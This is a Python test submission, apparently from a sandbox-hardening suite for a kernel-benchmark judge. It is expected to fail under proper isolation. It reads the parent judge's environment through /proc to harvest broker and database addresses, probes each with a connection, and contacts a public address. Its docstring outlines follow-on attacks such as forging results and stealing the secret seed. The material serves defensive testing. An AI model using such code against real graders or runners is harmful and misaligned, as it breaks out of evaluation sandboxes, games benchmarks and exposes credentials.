"""Opens sockets to the runner's broker and database (addresses taken from the judge) and to the internet.

Class: opening a socket to the broker or the internet
Expected: error

A runner's environment names its broker and database (``KERNELRANK_BROKER_URL``,
``KERNELRANK_DATABASE_URL``...). The submission reads the judge's (its parent's) environment through
``/proc``, connects to every ``host:port`` named there, sending a probe on each connection it gets,
and connects to a public address (sending nothing). A real attacker would now push a forged "result
recorded" message into the broker's control queue, log into a database with a default password
(Judge0's worst hole), or upload the secret seed and other submissions' code; the probe only proves
the path exists. If any connection succeeds the attack "won" and then behaves, so a harness without
network isolation lets it pass. A working defence gives the child no network at all (a network
namespace with nothing in it, or seccomp on ``socket``/``connect``): every attempt fails and the
attack raises.
"""

import os
import re
import socket
import threading

import torch

_PUBLIC = [("1.1.1.1", 443)]  # connected to, nothing sent


def _judge_environ_values():
    """Values of this process's environment and of the judge's (its parent), through ``/proc``."""
    values = list(os.environ.values())
    try:
        values += [kv.partition(b"=")[2].decode(errors="replace")
                   for kv in open(f"/proc/{os.getppid()}/environ", "rb").read().split(b"\0")]
    except OSError:
        pass
    return values


def _targets():
    found = []
    for value in _judge_environ_values():
        for host, port in re.findall(r"[a-z0-9+]+://(?:[^@/\s]*@)?([A-Za-z0-9.\-]+):(\d{2,5})", value):
            found.append((host, int(port)))
    return list(dict.fromkeys(found + _PUBLIC))


def _try(host, port, reached, failed):
    try:
        with socket.create_connection((host, port), timeout=1.5) as s:
            if (host, port) not in _PUBLIC:
                s.sendall(b"PING\r\n")
        reached.append(f"{host}:{port}")
    except OSError as e:
        failed.append(f"{host}:{port} ({e.__class__.__name__}: {e})")


_reached, _failed = [], []
_threads = [threading.Thread(target=_try, args=(h, p, _reached, _failed), daemon=True) for h, p in _targets()[:16]]
for _t in _threads:
    _t.start()
for _t in _threads:
    _t.join(4.0)
if not _reached:
    raise RuntimeError(f"no network: {'; '.join(_failed)[:1500]}")
print(f"[attack] reached {_reached}", flush=True)


def custom_kernel(data):
    a, b = data
    return torch.mm(a, b)
